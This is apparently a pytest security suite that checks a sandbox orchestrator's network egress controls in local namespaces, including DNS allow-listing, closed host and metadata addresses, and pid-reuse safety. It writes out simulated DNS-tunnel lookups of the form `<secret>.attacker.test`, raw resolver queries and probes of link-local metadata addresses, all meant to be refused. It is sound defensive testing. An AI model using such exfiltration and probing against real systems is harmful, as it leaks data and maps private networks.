"""Attacks on a networked sandbox's way out (finding 9 of issue 29, and the network half of 11).

With an allow-list, a sandbox must not get a name resolved that is not on it: a query for
``<data>.attacker.test`` that reached a real resolver would carry the data out (a DNS tunnel),
and answers for internal names would map the private network. Whatever the allow-list says
(``0.0.0.0/0``), the host's own addresses, slirp4netns's aliases (10.0.2.2 stands for the
host, 10.0.2.3 for its resolver) and link-local addresses stay closed. A refresh of the
allow-list must land in the sandbox's own network namespace, never in whatever process now
has the pid that the sandbox's agent once had.

Nothing leaves the machine: the "internet" is tests/test_network.py's network namespace with
a web server, and a DNS server of the test's own writes down every name it is asked. The
orchestrator runs as ``serve`` in a mount namespace of its own whose /etc/resolv.conf names
that DNS server, so both the host's resolution of listed names and slirp4netns's forwarder
ask it.
"""

from __future__ import annotations

import contextlib
import json
import os
import secrets
from collections.abc import Iterator
from pathlib import Path

import dns.message
import dns.rcode
import httpx
import pytest

from tests.conftest import create_ready, needs_root, run, wait_until
from tests.test_network import (
    LINK_LOCAL,
    PORT,
    PRIVATE,
    PUBLIC,
    RESOLVER,
    Served,
    _host_addresses,
    host_listener,
    name_server,
    orchestrator_whose_resolver_is,
    probe,
    upstream,
)

pytestmark = [needs_root, pytest.mark.root]
__all__ = ["host_listener", "upstream"]  # fixtures, used by name

LISTED = "listed.orchard.test"

# Sends the DNS query given in hex to each "udp:HOST" / "tcp:HOST" on port 53; prints
# "TARGET ANSWERED <hex>" or "TARGET NO <why>" for each.
RAW_DNS = """
import socket, sys
query = bytes.fromhex(sys.argv[1])
for target in sys.argv[2:]:
    proto, host = target.split(":")
    try:
        if proto == "udp":
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            s.settimeout(3)
            s.connect((host, 53))
            s.send(query)
            answer = s.recv(4096)
        else:
            s = socket.create_connection((host, 53), 3)
            s.sendall(len(query).to_bytes(2, "big") + query)
            answer = s.recv(4096)[2:]
        print(target, "ANSWERED", answer.hex())
    except OSError as e:
        print(target, "NO", type(e).__name__)
"""


@contextlib.contextmanager
def behind_resolver(data_dir: Path, tmp_path: Path, names: dict[str, str],
                    **settings: object) -> Iterator[tuple[Served, list[str]]]:
    """An orchestrator whose host resolver is a DNS server of this test's that answers
    ``names``; yields it and the names that server was asked."""
    with name_server(RESOLVER, names) as asked, orchestrator_whose_resolver_is(
            RESOLVER, data_dir, tmp_path / "serve.log", **settings) as server:
        yield server, asked


def raw_dns(api: httpx.Client, sid: str, name: str, *targets: str) -> dict[str, str]:
    """What each target answered to an A query for ``name``: its rcode's name, or "NO"."""
    query = dns.message.make_query(name, "A").to_wire().hex()
    r = run(api, sid, argv=["python3", "-c", RAW_DNS, query, *targets], timeout_seconds=60)
    assert r["exit_code"] == 0, r
    got = {}
    for line in r["stdout"].splitlines():
        target, verdict, *rest = line.split()
        got[target] = (dns.rcode.to_text(dns.message.from_wire(bytes.fromhex(rest[0])).rcode())
                       if verdict == "ANSWERED" else "NO")
    return got


def test_dns_answers_only_the_allow_list_and_forwards_nothing(
        data_dir: Path, orchestrator: str, upstream: str, tmp_path: Path) -> None:
    """A sandbox allowed one name tries to resolve others (a tunnel: the data rides in the
    name), through its resolver, straight at slirp4netns's forwarder and at the host's
    resolver, over UDP and TCP. The host's resolver must never hear of them; the listed name
    still resolves, to the address the host resolved."""
    del orchestrator, upstream  # the bundle it built; the network behind the resolver
    with behind_resolver(data_dir, tmp_path, {LISTED: PUBLIC}) as (server, asked), \
            httpx.Client(base_url=server.url, timeout=60) as api:
        sid = create_ready(api, {"image": "host", "block_network": False,
                                 "egress": [LISTED]})
        secret = secrets.token_hex(8)
        tunnel = run(api, sid, command=f"getent ahostsv4 {secret}.attacker.test")
        direct = raw_dns(api, sid, f"{secret}-direct.attacker.test", "udp:10.0.2.3",
                         "tcp:10.0.2.3", f"udp:{RESOLVER}", f"tcp:{RESOLVER}")
        leaked = [name for name in asked if "attacker.test" in name]
        assert leaked == [], f"the sandbox's queries reached the host's resolver: {leaked}"
        assert tunnel["exit_code"] == 2, tunnel  # getent: not found
        assert direct == dict.fromkeys(direct, "NO") and len(direct) == 4, direct
        # Its own resolver refuses the name, without asking anyone.
        nameserver = run(api, sid, command="cat /etc/resolv.conf")["stdout"].split()[1]
        assert raw_dns(api, sid, f"{secret}-own.attacker.test", f"udp:{nameserver}") == {
            f"udp:{nameserver}": "NXDOMAIN"}
        assert not [name for name in asked if "attacker.test" in name], asked
        # The listed name resolves inside to what the host resolved, and that is reachable.
        got = run(api, sid, command=f"getent ahostsv4 {LISTED} | awk '{{print $1}}' | sort -u")
        assert got["stdout"].split() == [PUBLIC], got
        assert probe(api, sid, f"{PUBLIC}:{PORT}", f"{PRIVATE}:{PORT}") == {
            f"{PUBLIC}:{PORT}": "OK", f"{PRIVATE}:{PORT}": "REFUSED"}


def test_the_host_and_slirps_aliases_stay_closed_whatever_the_allow_list(
        data_dir: Path, orchestrator: str, upstream: str, tmp_path: Path,
        host_listener: int) -> None:
    """With 0.0.0.0/0 allowed, the sandbox aims at the host by each of its addresses, at
    slirp4netns's gateway (the host), at its DNS alias on a port other than DNS (the host's
    resolver's address has a web server on that port too), and at a link-local address (where
    clouds serve metadata)."""
    del orchestrator, upstream
    with behind_resolver(data_dir, tmp_path, {}) as (server, _), \
            httpx.Client(base_url=server.url, timeout=60) as api:
        sid = create_ready(api, {"image": "host", "block_network": False,
                                 "egress": ["0.0.0.0/0"]})
        targets = [f"10.0.2.2:{host_listener}", f"10.0.2.2:{server.port}",
                   f"10.0.2.3:{host_listener}",
                   *(f"{a}:{host_listener}" for a in _host_addresses()),
                   *(f"{a}:{server.port}" for a in _host_addresses()), f"{LINK_LOCAL}:{PORT}"]
        assert RESOLVER in _host_addresses()
        results = probe(api, sid, *targets)
        leaked = {t: r for t, r in results.items() if r != "REFUSED"}
        assert not leaked, json.dumps(results)
        assert len(results) == len(set(targets))
        # What the allow-list opens is open.
        assert probe(api, sid, f"{PUBLIC}:{PORT}", f"{PRIVATE}:{PORT}") == {
            f"{PUBLIC}:{PORT}": "OK", f"{PRIVATE}:{PORT}": "OK"}


def test_a_refresh_never_follows_a_stale_agent_pid(
        data_dir: Path, orchestrator: str, upstream: str, tmp_path: Path) -> None:
    """Sandbox A's allow-list names a host whose address moves; by then the pid its agent had
    belongs to a process of sandbox B (pids are reused; here the test writes B's agent's pid
    where A's was recorded, which is what reuse amounts to). The new address must reach A's
    rules, and B's must stay as they were: B must not inherit A's allow-list."""
    del orchestrator, upstream
    moving = "moving.orchard.test"
    names = {moving: PRIVATE}
    # No reconcile pass meanwhile: it would call A failed, its recorded agent being gone.
    with behind_resolver(data_dir, tmp_path, names, egress_refresh=0.3,
                         reconcile_interval=3600) as (server, _), \
            httpx.Client(base_url=server.url, timeout=60) as api:
        a = create_ready(api, {"image": "host", "block_network": False, "egress": [moving]})
        b = create_ready(api, {"image": "host", "block_network": False,
                               "egress": [f"{PRIVATE}/32"]})
        sandboxes = server.data / "local" / "sandboxes"
        both = (f"{PUBLIC}:{PORT}", f"{PRIVATE}:{PORT}")
        assert probe(api, a, *both) == {both[0]: "REFUSED", both[1]: "OK"}
        assert probe(api, b, *both) == {both[0]: "REFUSED", both[1]: "OK"}
        (sandboxes / a / "agent.pid").write_text((sandboxes / b / "agent.pid").read_text())
        names[moving] = PUBLIC

        def refreshed() -> bool:  # somewhere: in A, as it must, or in B
            return "OK" in (probe(api, a, both[0])[both[0]], probe(api, b, both[0])[both[0]])

        assert wait_until(refreshed, 30, 0.3), "no refresh landed anywhere"
        assert probe(api, b, *both) == {both[0]: "REFUSED", both[1]: "OK"}, (
            "A's refresh went into B's network namespace")
        assert probe(api, a, *both) == {both[0]: "OK", both[1]: "REFUSED"}


def _fd_links(pid: int) -> set[str]:
    links = set()
    for fd in Path(f"/proc/{pid}/fd").iterdir():
        with contextlib.suppress(OSError):
            links.add(os.readlink(fd))
    return links


def test_the_resolver_comes_back_after_a_restart_and_goes_with_the_sandbox(
        data_dir: Path, orchestrator: str, upstream: str, tmp_path: Path) -> None:
    """The sandbox's resolver and its network handle live in the orchestrator: one that was
    SIGKILLed and restarted makes them again when it re-adopts the sandbox, and a delete
    leaves none of them open."""
    del orchestrator, upstream
    with behind_resolver(data_dir, tmp_path, {LISTED: PUBLIC}) as (server, asked):
        with httpx.Client(base_url=server.url, timeout=60) as api:
            sid = create_ready(api, {"image": "host", "block_network": False,
                                     "egress": [LISTED]})
        agent = int((server.data / "local" / "sandboxes" / sid / "agent.pid").read_text())
        netns = os.readlink(f"/proc/{agent}/ns/net")
        server.kill()
        server.start()
        assert server.proc is not None
        with httpx.Client(base_url=server.url, timeout=60) as api:
            got = run(api, sid, command=f"getent ahostsv4 {LISTED} | awk '{{print $1}}' | sort -u")
            assert got["stdout"].split() == [PUBLIC], got
            unlisted = run(api, sid, command="getent ahostsv4 other.orchard.test")
            assert unlisted["exit_code"] == 2 and "other.orchard.test" not in asked, unlisted
            # The resolver's socket, by inode, from the sandbox's side.
            udp = Path(f"/proc/{agent}/net/udp").read_text().splitlines()[1:]
            inodes = [line.split()[9] for line in udp if line.split()[1] == "0100007F:0035"]
            assert len(inodes) == 1, udp
            mine = {netns, f"socket:[{inodes[0]}]"}
            assert mine <= _fd_links(server.proc.pid)
            assert api.delete(f"/sandboxes/{sid}").status_code == 200
        pid = server.proc.pid
        assert wait_until(lambda: not mine & _fd_links(pid), 10), mine & _fd_links(pid)
